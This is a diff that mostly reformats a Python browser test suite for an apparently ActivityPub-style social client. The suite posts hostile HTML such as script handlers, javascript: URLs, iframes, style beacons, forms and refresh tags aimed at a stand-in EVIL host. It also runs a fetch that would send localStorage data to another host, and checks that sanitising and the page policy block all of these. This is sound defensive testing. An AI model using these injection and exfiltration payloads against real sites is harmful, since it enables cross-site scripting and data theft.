@@ -25,11 +25,11 @@ CONTENTS = {
     "link whose user name is a host": f"<a href='https://{HOST}@{EVIL}/'>{HOST}</a>",
     "handlers and style of a link": f"<a href='https://ok.example/' onclick='{RUN}' onmouseover='{RUN}' style='position:fixed;inset:0'>ok</a>",
     "style": f"<style>body{{display:none}}*{{background:url(https://{EVIL}/s)}}</style>"
-             f"<p style='background:url(https://{EVIL}/p);position:fixed;inset:0'>styled</p>",
+    f"<p style='background:url(https://{EVIL}/p);position:fixed;inset:0'>styled</p>",
     "frames": f"<iframe srcdoc='<script>parent.pwned=1</script>'></iframe><iframe src='https://{EVIL}/'></iframe>",
     "objects": f"<object data='https://{EVIL}/'></object><embed src='https://{EVIL}/'>",
     "form with the names of its own properties": f"<form action='https://{EVIL}/'><input name=childNodes><input name=nodeName><input name=nodeType>"
-                                                 "<input name=getAttribute><input name=namespaceURI><button>Give key</button></form>text after a form",
+    "<input name=getAttribute><input name=namespaceURI><button>Give key</button></form>text after a form",
     "names of the page's own": "<a id=main name=main href='https://ok.example/'>x</a><p id=nav>n</p><img name=trustedTypes>",
     "base": f"<base href='https://{EVIL}/'><a href='/x'>relative</a>",
     "refresh": f"<meta http-equiv=refresh content='0;url=https://{EVIL}/'>",
@@ -56,22 +56,39 @@ FOREIGN = "main img, main iframe, main script, main style, main svg, main object
 
 
 def contents(stage, check):
-    """37 contents, and hostile texts in all other places, are kept by the server and shown by the page."""
+    """37 contents, and hostile texts in all other places, are kept by the server and shown by the
+    page.
+    """
     town = stage.town
     ana = town.id("ana")
     kept = []
     shown_contents = {name: html for name, html in CONTENTS.items() if name not in stage.without}
     for name, html in shown_contents.items():
-        note = {"type": "Note", "content": html, "to": [PUBLIC, ana], "tag": [{"type": "Mention", "href": ana, "name": HANDLER}]}
+        note = {
+            "type": "Note",
+            "content": html,
+            "to": [PUBLIC, ana],
+            "tag": [{"type": "Mention", "href": ana, "name": HANDLER}],
+        }
         if name in ("handler of an image", "script", "SVG"):
             note["summary"] = html[:200]
         kept.append(town.post("ben", note))
-    check(f"the server keeps each of {len(CONTENTS)} hostile contents", len(CONTENTS) == 37 and all(kept))
-    for post in ({"type": "Article", "name": HANDLER, "to": [ana, PUBLIC]},
-                 {"type": "Note", "content": "x", "inReplyTo": f"javascript:{RUN}", "to": [ana]},
-                 {"type": "Question", "content": HANDLER, "name": HANDLER, "to": [ana]}, {"type": HANDLER, "content": HANDLER, "to": [ana]},
-                 {"type": "Create", "to": [ana], "object": {"type": "Note", "content": "url", "url": f"javascript:{RUN}", "to": [ana]}},
-                 {"type": "Note", "content": HANDLER, "inReplyTo": f"{ana}/o/1", "to": [ana]}):
+    check(
+        f"the server keeps each of {len(CONTENTS)} hostile contents",
+        len(CONTENTS) == 37 and all(kept),
+    )
+    for post in (
+        {"type": "Article", "name": HANDLER, "to": [ana, PUBLIC]},
+        {"type": "Note", "content": "x", "inReplyTo": f"javascript:{RUN}", "to": [ana]},
+        {"type": "Question", "content": HANDLER, "name": HANDLER, "to": [ana]},
+        {"type": HANDLER, "content": HANDLER, "to": [ana]},
+        {
+            "type": "Create",
+            "to": [ana],
+            "object": {"type": "Note", "content": "url", "url": f"javascript:{RUN}", "to": [ana]},
+        },
+        {"type": "Note", "content": HANDLER, "inReplyTo": f"{ana}/o/1", "to": [ana]},
+    ):
         town.post("ben", post)
     stage.browser.events.clear()
     page = stage.member("ana")
@@ -87,19 +104,37 @@ def contents(stage, check):
     page.eval("document.querySelectorAll('details').forEach(d => { d.open = true; })")
     page.browser.listen(1)
     check("nothing ran", not page.eval("window.pwned"))
-    foreign = page.eval(f"getComputedStyle(document.body).display === 'none' || !!document.querySelector({FOREIGN!r})")
+    foreign = page.eval(
+        f"getComputedStyle(document.body).display === 'none' || !!document.querySelector({FOREIGN!r})"
+    )
     check("nothing of another kind is in the page", foreign is False)
-    more = page.eval("[...document.querySelectorAll('main .content *')].flatMap(e => [...e.attributes].map(a => `${e.localName} ${a.name}`))"
-                     ".filter(x => !['a href', 'a rel', 'a target'].includes(x))")
+    more = page.eval(
+        "[...document.querySelectorAll('main .content *')].flatMap(e => [...e.attributes].map(a => `${e.localName} ${a.name}`))"
+        ".filter(x => !['a href', 'a rel', 'a target'].includes(x))"
+    )
     check("only links have attributes", not more, f"{more}")
-    targets = page.eval("[...new Set([...document.querySelectorAll('main a')].map(a => a.getAttribute('href')))]")
+    targets = page.eval(
+        "[...new Set([...document.querySelectorAll('main a')].map(a => a.getAttribute('href')))]"
+    )
     outside = [target for target in targets if not target.startswith("#/")]
-    check("links go to http, https, mailto or a screen", all(target.startswith(("https://", "http://", "mailto:")) for target in outside), f"{outside}")
+    check(
+        "links go to http, https, mailto or a screen",
+        all(target.startswith(("https://", "http://", "mailto:")) for target in outside),
+        f"{outside}",
+    )
     named = [target for target in outside if "@" in "".join(target.split("/")[2:3])]
     check("and to no address with a user name", not named, f"{named}")
-    check("the page is as wide as before", page.eval("document.documentElement.scrollWidth <= innerWidth"))
-    check("what comes after a form is there", "text after a form" in page.text() and "deep down" in page.text())
-    apart = page.eval("[...document.querySelectorAll('.content')].every(e => getComputedStyle(e).unicodeBidi === 'isolate')")
+    check(
+        "the page is as wide as before",
+        page.eval("document.documentElement.scrollWidth <= innerWidth"),
+    )
+    check(
+        "what comes after a form is there",
+        "text after a form" in page.text() and "deep down" in page.text(),
+    )
+    apart = page.eval(
+        "[...document.querySelectorAll('.content')].every(e => getComputedStyle(e).unicodeBidi === 'isolate')"
+    )
     check("a text in the other direction ends with itself", apart)
     check("no dialog came up", not page.browser.happened("Page.javascriptDialogOpening"))
     stage.picture(page, "hostile")
@@ -109,11 +144,29 @@ def contents(stage, check):
         check(f"nothing ran in {place}", not page.eval("window.pwned"))
     urls = [event["request"]["url"] for event in page.browser.happened("Network.requestWillBeSent")]
     asked = {url.split("/")[2] for url in urls if url.startswith("http")}
-    check("nothing was asked of another host", asked == {HOST} and not stage.elsewhere.asked, f"{asked} {stage.elsewhere.asked}")
+    check(
+        "nothing was asked of another host",
+        asked == {HOST} and not stage.elsewhere.asked,
+        f"{asked} {stage.elsewhere.asked}",
+    )
     check("the page is still this page", page.eval("location.host") == HOST)
 
 
-LISTED = ["ben", HANDLER, f"javascript:{RUN}", "../ana", "ana/o/1", "ana@evil.example", "Ana", "", "ana\n", None, 5, ["ana"], {"name": "ana"}]
+LISTED = [
+    "ben",
+    HANDLER,
+    f"javascript:{RUN}",
+    "../ana",
+    "ana/o/1",
+    "ana@evil.example",
+    "Ana",
+    "",
+    "ana\n",
+    None,
+    5,
+    ["ana"],
+    {"name": "ana"},
+]
 
 
 def listed(stage, check):
@@ -123,12 +176,21 @@ def listed(stage, check):
         with open(stage.town.list(), "w") as file:
             file.write(text)
         page.go("People")
-        check(f"'{text}' is no list of members", "Find somebody" in page.screen() and "Members" not in page.screen())
+        check(
+            f"'{text}' is no list of members",
+            "Find somebody" in page.screen() and "Members" not in page.screen(),
+        )
     with open(stage.town.list(), "w") as file:
         json.dump(LISTED, file)
     page.go("People")
-    shown = page.eval("[...document.querySelectorAll('[aria-label=Members] a')].map(a => a.getAttribute('href'))")
-    check("a list of members has names alone", shown == ["#/@ben"] and not page.eval("window.pwned"), f"{shown}")
+    shown = page.eval(
+        "[...document.querySelectorAll('[aria-label=Members] a')].map(a => a.getAttribute('href'))"
+    )
+    check(
+        "a list of members has names alone",
+        shown == ["#/@ben"] and not page.eval("window.pwned"),
+        f"{shown}",
+    )
     os.remove(stage.town.list())
 
 
@@ -137,18 +199,18 @@ def policy(stage, check):
     page = stage.member("ana")
     tries = {
         "no handler runs": "(() => { const d = document.createElement('div'); try { d.setAttribute('onclick', 'window.hole = 1'); d.click(); } catch {}"
-                           " return !window.hole; })()",
+        " return !window.hole; })()",
         "no text becomes HTML": "(() => { try { document.createElement('div').innerHTML = '<b>x</b>'; return false; } catch { return true; } })()",
         "no text becomes code": "(() => { try { Function('return 1')(); return false; } catch { return true; } })()",
         "no second policy is made": "(() => { try { trustedTypes.createPolicy('x', {}); return false; } catch { return true; } })()",
         "no other host is asked": f"fetch('https://{OTHER}/?' + localStorage.length, {{mode: 'no-cors'}}).then(() => false, () => true)",
         "no image is loaded": f"new Promise(done => {{ const i = new Image(); i.onload = () => done(false); i.onerror = () => done(true);"
-                              f" i.src = 'https://{OTHER}/x.png'; }})",
+        f" i.src = 'https://{OTHER}/x.png'; }})",
         "no script of another host is loaded": "new Promise(done => { const s = document.createElement('script'); s.onload = () => done(false);"
-                                               f" s.onerror = () => done(true); try {{ s.src = 'https://{OTHER}/x.js'; document.body.append(s); }}"
-                                               " catch { done(true); } })",
+        f" s.onerror = () => done(true); try {{ s.src = 'https://{OTHER}/x.js'; document.body.append(s); }}"
+        " catch { done(true); } })",
         "no form is sent": f"(() => {{ const f = document.createElement('form'); f.action = 'https://{OTHER}/'; document.body.append(f); f.submit();"
-                           f" return new Promise(done => setTimeout(() => done(location.host === '{HOST}'), 500)); }})()",
+        f" return new Promise(done => setTimeout(() => done(location.host === '{HOST}'), 500)); }})()",
     }
     for what, code in tries.items():
         try:
@@ -175,7 +237,10 @@ def lost_lines(stage, check):
     page.send("Fetch.disable")
     check("a post is kept whose reply is lost", town.total("cleo/outbox", "cleo") == before + 1)
     page.has("There was no answer")
-    check("the text is still there", page.eval("document.querySelector('main > form textarea').value") == "Sent over a bad line")
+    check(
+        "the text is still there",
+        page.eval("document.querySelector('main > form textarea').value") == "Sent over a bad line",
+    )
     page.click("main > form button[type=submit]", "Post")
     page.has("Posted.")
     check("a second click posts nothing more", town.total("cleo/outbox", "cleo") == before + 1)
@@ -186,13 +251,30 @@ def lost_lines(stage, check):
     page.click("main > form button[type=submit]", "Post")
     page.has("Posted.")
     check("the same text posts again later", town.total("cleo/outbox", "cleo") == before + 2)
-    page.eval("import('/server.js').then(s => Promise.all([1, 2, 3].map(() => s.post({type: 'Note', content: 'thrice', to: [s.everybody]}))))")
-    check("three posts of one body at one moment are one", town.total("cleo/outbox", "cleo") == before + 3)
-    page.send("Network.emulateNetworkConditions", offline=True, latency=0, downloadThroughput=-1, uploadThroughput=-1)
+    page.eval(
+        "import('/server.js').then(s => Promise.all([1, 2, 3].map(() => s.post({type: 'Note', content: 'thrice', to: [s.everybody]}))))"
+    )
+    check(
+        "three posts of one body at one moment are one",
+        town.total("cleo/outbox", "cleo") == before + 3,
+    )
+    page.send(
+        "Network.emulateNetworkConditions",
+        offline=True,
+        latency=0,
+        downloadThroughput=-1,
+        uploadThroughput=-1,
+    )
     page.settle()
     page.go("Notices")
     check("no line is told", "There was no answer" in page.text())
-    page.send("Network.emulateNetworkConditions", offline=False, latency=0, downloadThroughput=-1, uploadThroughput=-1)
+    page.send(
+        "Network.emulateNetworkConditions",
+        offline=False,
+        latency=0,
+        downloadThroughput=-1,
+        uploadThroughput=-1,
+    )
     page.go("Home")
     check("and the page goes on after it", "Sent over a bad line" in page.text())
 
@@ -224,9 +306,15 @@ def repeated(stage, check):
     page.go("#/@ben")
     check("a Block is taken back after a second one", "seen again" in page.text())
     town.post("cleo", {"type": "Follow", "object": town.id("dan")})
-    town.post("cleo", {"type": "Undo", "object": town.post("cleo", {"type": "Block", "object": town.id("dan")})})
+    town.post(
+        "cleo",
+        {"type": "Undo", "object": town.post("cleo", {"type": "Block", "object": town.id("dan")})},
+    )
     page.go("#/@dan")
-    check("a Follow that a Block of one's own ended is over", "You follow them" not in page.screen() and "You asked" not in page.screen())
+    check(
+        "a Follow that a Block of one's own ended is over",
+        "You follow them" not in page.screen() and "You asked" not in page.screen(),
+    )
     town.post("dan", {"type": "Follow", "object": town.id("cleo")})
     for _ in range(30):
         town.post("dan", {"type": "Note", "content": "again", "to": [town.id("cleo")]})
@@ -236,11 +324,16 @@ def repeated(stage, check):
     town.post("ben", {"type": "Note", "content": "after the block", "to": [town.id("cleo")]})
     page.go("Notices")
     text = page.screen()
-    check("a Block that shortens the inbox loses no notice", "before the block" in text and "after the block" in text and "@dan" not in text)
+    check(
+        "a Block that shortens the inbox loses no notice",
+        "before the block" in text and "after the block" in text and "@dan" not in text,
+    )
     town.post("cleo", {"type": "Undo", "object": block})
     town.post("ben", {"type": "Note", "content": "after all", "to": [town.id("cleo")]})
     page.go("Notices")
-    check("nor does its end", "after all" in page.text() and page.text().count("after the block") == 1)
+    check(
+        "nor does its end", "after all" in page.text() and page.text().count("after the block") == 1
+    )
 
 
 STEPS = [lost_lines, repeated, policy, listed, contents]
